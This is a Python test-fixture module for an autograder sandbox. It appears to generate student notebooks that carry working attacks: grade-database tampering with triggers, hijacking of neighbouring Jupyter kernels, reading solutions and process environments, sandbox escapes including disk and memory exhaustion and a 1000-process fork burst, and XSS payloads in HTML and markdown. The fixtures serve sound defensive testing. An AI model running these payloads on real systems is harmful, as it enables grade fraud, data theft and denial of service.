"""A hostile cohort for chapter 01: submissions that try, from inside their kernel, everything
issue 10 found a student could do to the grader, plus honest classmates to protect.

Each attacker answers every exercise correctly (so its fair score is full marks) and first runs
its attack from the ``linear_params`` answer cell, printing one ``ATTACK <name> {json}`` line
of what it managed; the tests read those lines from the instructor's autograded copy, and check
the grader's side: grades, files, processes, the network, feedback pages.

``targets`` are host paths the attacks aim at (the output folder, the repository, home, the host's
/tmp, a loopback port the test listens on); inside a working sandbox none of them is reachable.
"""

from __future__ import annotations

import json
from typing import Callable

from autograder.samples import CHAPTER, NOTEBOOK, notebook, solutions

#: Lines a markdown cell and an output inject into feedback pages (attack "html").
SCRIPT_MARK = "PWNED-BY-SCRIPT"
SLEEPER = "sleep 6543"  # the detached process the "escape" attack leaves behind, if it can

_REPORT = '''
def _report(name, **found):
    import json as _json
    print("ATTACK " + name + " " + _json.dumps(found, default=str))   # one write: one line
'''

GRADES = _REPORT + '''
import os as _os, pathlib as _pl, sqlite3 as _sq, subprocess as _sp
_hits, _changed = [], []
_here = _pl.Path(_os.getcwd())
for _folder in [_here, *_here.parents, _pl.Path(TARGETS["out"])]:
    for _name in (".grading.lock", "gradebook.db", "grades.csv", "work/template.db",
                  "journal.jsonl"):
        if (_folder / _name).exists():
            _hits.append(str(_folder / _name))
for _path in _hits:
    try:
        if _path.endswith(".db"):
            _db = _sq.connect(_path)
            _db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
            _db.execute("CREATE TRIGGER IF NOT EXISTS pwn AFTER INSERT ON grade BEGIN "
                        "UPDATE grade SET auto_score = 0; END")
            _db.commit()
        else:
            open(_path, "a").write("mallory,01_parameters,1000\\n")
        _changed.append(_path)
    except Exception as _error:
        pass
for _feedback in _pl.Path(TARGETS["out"]).glob("feedback/*/*/*.html"):
    try:
        _feedback.write_text("<h1>0 points</h1>")
        _changed.append(str(_feedback))
    except Exception:
        pass
_later = "import time,pathlib; time.sleep(15); pathlib.Path(%r).write_text('pwned')" % (
    TARGETS["out"] + "/grades.csv")
try:
    _sp.Popen(["python3", "-c", _later], start_new_session=True)
except Exception:
    pass
_report("grades", found=_hits, changed=_changed)
'''

NEIGHBOUR = _REPORT + '''
import glob as _glob, os as _os
_args = open("/proc/self/cmdline", "rb").read().split(b"\\0")   # its own: -f CONNECTION_FILE
_mine = {_os.path.realpath(a.decode()) for a in _args if a.endswith(b".json")}
_files = set()
for _pattern in ("/tmp/**/*.json", "/run/**/*.json", "/root/.local/share/jupyter/runtime/*.json",
                 TARGETS["home"] + "/.local/share/jupyter/runtime/*.json", "/dev/shm/*"):
    _files |= {_os.path.realpath(p) for p in _glob.glob(_pattern, recursive=True)}
_others = sorted(f for f in _files - _mine if "kernel" in f or "connection" in f)
_connected = []
for _path in _others:
    try:
        import jupyter_client as _jc
        _client = _jc.BlockingKernelClient(connection_file=_path)
        _client.load_connection_file()
        _client.start_channels()
        _client.execute("expect = lambda *a, **k: (_ for _ in ()).throw(AssertionError('pwned'))")
        _connected.append(_path)
    except Exception:
        pass
_report("neighbour", other_kernels=_others, connected=_connected)
'''

READ = _REPORT + '''
import glob as _glob, os as _os
_read = {}
_paths = [TARGETS["out"] + "/nbgrader_config.py", TARGETS["repo"] + "/solutions",
          f"/proc/{_os.getppid()}/cmdline", "/proc/1/environ"]
_paths += _glob.glob(TARGETS["repo"] + "/solutions/*/*.ipynb")
_paths += _glob.glob(TARGETS["out"] + "/work/**/*.ipynb", recursive=True)
for _depth in range(1, 5):   # any solutions/ a few folders below /
    _paths += _glob.glob("/" + "*/" * _depth + "solutions/*/*.ipynb")
for _path in _paths:
    try:
        if _os.path.isdir(_path):
            _read[_path] = _os.listdir(_path)
        else:
            _read[_path] = open(_path, errors="replace").read()[:20000]
    except Exception:
        pass
for _path, _text in _read.items():
    print(_text)          # whatever was read, into this student's own feedback
_report("read", read=sorted(_read))
'''

ESCAPE = _REPORT + '''
import mmap as _mmap, os as _os, socket as _socket, subprocess as _sp, time as _time
_written = []
for _folder in (TARGETS["home"], TARGETS["tmp"], TARGETS["repo"], TARGETS["repo"] + "/autograder",
                TARGETS["repo"] + "/solutions", TARGETS["package"], TARGETS["out"]):
    try:
        with open(_os.path.join(_folder, TARGETS["marker"]), "w") as _f:
            _f.write("escaped")
        _written.append(_folder)
    except Exception:
        pass
try:
    _sp.Popen(["sh", "-c", "SLEEPER"], start_new_session=True)
    _detached = True
except Exception:
    _detached = False
try:
    _s = _socket.create_connection(("127.0.0.1", TARGETS["port"]), timeout=2)
    _s.sendall(b"hello from a student kernel")
    _network = True
except Exception:
    _network = False
_big = 0
try:
    with open("big.bin", "wb") as _f:
        for _ in range(32):
            _f.write(b"\\0" * 64 * 2**20)
            _big += 64
except Exception as _error:
    _big_error = type(_error).__name__
try:   # 3 GB of shared memory, every page written, in a child: it must not survive
    _pid = _os.fork()
    if _pid == 0:
        try:
            _m = _mmap.mmap(-1, 3 * 2**30, flags=_mmap.MAP_SHARED)
            for _at in range(0, 3 * 2**30, 2**12):
                _m[_at] = 120
            _os._exit(0)
        except BaseException:
            _os._exit(1)
    _mapped = _os.waitpid(_pid, 0)[1] == 0
except Exception:
    _mapped = False
_children = []
try:
    for _ in range(1000):
        _pid = _os.fork()
        if _pid == 0:
            _time.sleep(5)
            _os._exit(0)
        _children.append(_pid)
except Exception:
    pass
for _pid in _children:
    _os.kill(_pid, 9)
    _os.waitpid(_pid, 0)
_report("escape", written=_written, detached=_detached, network=_network, big_file_mb=_big,
        mapped_3gb=_mapped, forked=len(_children))
'''.replace("SLEEPER", SLEEPER)

HTML = _REPORT + '''
from IPython.display import HTML as _HTML, Javascript as _JS, display as _display
_display(_HTML("<script>document.title='SCRIPT_MARK-html'</script>"
               "<img src=x onerror=\\"document.title='SCRIPT_MARK-img'\\">"))
_display(_JS("document.title='SCRIPT_MARK-js'"))
_report("html", shown=True)
'''.replace("SCRIPT_MARK", SCRIPT_MARK)

MARKDOWN = (f"Look at this <script>document.title='{SCRIPT_MARK}-markdown'</script> and "
            f"<a href=\"javascript:alert('{SCRIPT_MARK}-link')\">this link</a>.")

ATTACKS: dict[str, str] = {"grades": GRADES, "neighbour": NEIGHBOUR, "read": READ,
                           "escape": ESCAPE, "html": HTML}


def _with_markdown(cells: list[dict]) -> None:
    cells.insert(1, {"cell_type": "markdown", "id": "student-note", "metadata": {},
                     "source": MARKDOWN})


def attack_notebook(name: str, targets: dict) -> bytes:
    """Chapter 01 fully solved, with attack ``name`` run first from the linear_params cell."""
    answers = solutions()
    attack = f"TARGETS = {json.dumps(targets)}\n" + ATTACKS[name]
    answers["linear_params"] = attack + "\n" + answers["linear_params"]
    edit: Callable | None = _with_markdown if name == "html" else None
    return notebook(answers, edit)


def honest_notebook() -> bytes:
    """Chapter 01 fully solved: the classmates the attacks must not touch."""
    return notebook(solutions())


def attack_reports(executed: dict) -> dict[str, dict]:
    """The ``ATTACK name {json}`` lines printed in a graded notebook, by attack name. A cell's
    stdout is read whole: the kernel sends what is printed in chunks, on a timer, and a line
    may end in the next chunk (more often while the attack itself writes to the stream)."""
    reports = {}
    for cell in executed.get("cells", []):
        printed = "".join(_text(output) for output in cell.get("outputs", [])
                          if output.get("output_type") == "stream"
                          and output.get("name") == "stdout")
        for line in printed.splitlines():
            if line.startswith("ATTACK "):
                _, name, found = line.split(" ", 2)
                reports[name] = json.loads(found)
    return reports


def _text(output: dict) -> str:
    text = output.get("text", "")
    return "".join(text) if isinstance(text, list) else text


__all__ = ["ATTACKS", "CHAPTER", "NOTEBOOK", "SCRIPT_MARK", "SLEEPER", "attack_notebook",
           "attack_reports", "honest_notebook"]
